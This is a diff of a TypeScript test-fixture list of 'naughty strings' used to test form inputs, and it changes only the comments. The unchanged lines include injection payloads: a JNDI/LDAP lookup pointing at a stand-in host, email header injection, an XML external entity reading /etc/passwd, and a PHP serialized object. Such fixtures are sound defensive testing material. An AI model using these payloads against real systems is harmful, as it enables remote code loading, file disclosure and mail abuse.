@@ -1,8 +1,8 @@
-// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are the words themselves, not templates gone wrong.
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these texts contain such placeholders on purpose.
 
 /** Texts that have broken forms before. Each must be stored unchanged or refused with a message. */
 export const naughtyStrings: string[] = [
-  // Values that are also something else
+  // Texts that look like other values
   ...[
     "undefined",
     "null",
@@ -33,13 +33,13 @@ export const naughtyStrings: string[] = [
     '""',
   ],
   ...["__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "length", "then", "valueOf"],
-  // Space that isn't, and text that can't be seen
+  // Unusual spaces, and invisible text
   ..." \u00a0\u1680\u2000\u2003\u202f\u205f\u3000\ufeff".split(""),
   ...["\u200b", "\u200d", "\u2060", "\u00ad", "\u180e", "\u3164", "\u2800", "\u115f", "\u034f"],
   ...["\t", "\v", "\f", "\r", "\n", "\r\n", "\x85", "\u2028", "\u2029", "a\u2028b", "line\nline", "tail\r\n"],
-  // Control characters, NUL among them
+  // Control characters, including NUL
   ...["\0", "a\0b", "\x01", "\x07bell", "\x08", "\x1b[31mred\x1b[0m", "\x7f", "\x80\x9f", "\ufffe\uffff"],
-  // Halves of characters, and characters of every kind
+  // Lone surrogates, and characters of every kind
   ...[
     "\ud800",
     "\udc00",
@@ -55,7 +55,7 @@ export const naughtyStrings: string[] = [
     "K",
   ],
   ...["👩‍👩‍👧‍👦", "🏳️‍🌈", "🇺🇳", "👍🏿", "❤️", "ᚠᛇᚻ", "田中さん", "ﷺ", "์ก็็็็็็็็", "Z̮̞̠͙͔ͅA̰̗L̰̥̞͍G̷̝̲͔O͇̬͎̱", "é", "e\u0301", "Å"],
-  // Right to left, and orders to turn round
+  // Right-to-left text, and characters that change the direction
   ...[
     "مرحبا",
     "עִבְרִית",
@@ -121,7 +121,7 @@ export const naughtyStrings: string[] = [
     "x'00'",
     "`",
   ],
-  // Mail headers and transport
+  // Email headers and transport
   ...[
     "a\r\nBcc: b@example.com",
     "a\nSubject: x",
@@ -176,7 +176,7 @@ export const naughtyStrings: string[] = [
     "tel:+1",
     "http://[::1]/",
   ],
-  // Lookups and markup in logs and documents
+  // Lookups in logs, and markup in documents
   ...[
     "${jndi:ldap://x.example/a}",
     "%{(#a=1)}",
@@ -194,7 +194,7 @@ export const naughtyStrings: string[] = [
     "<!ENTITY a SYSTEM 'file:///etc/passwd'>",
     'O:8:"stdClass":0:{}',
   ],
-  // Names that programs have mistaken for something worse
+  // Harmless names that programs have rejected
   ...[
     "Null",
     "Test",
@@ -208,7 +208,7 @@ export const naughtyStrings: string[] = [
     "Ó",
     "Ng",
   ],
-  // Long ones
+  // Long texts
   ...[
     "a".repeat(100),
     "a".repeat(101),
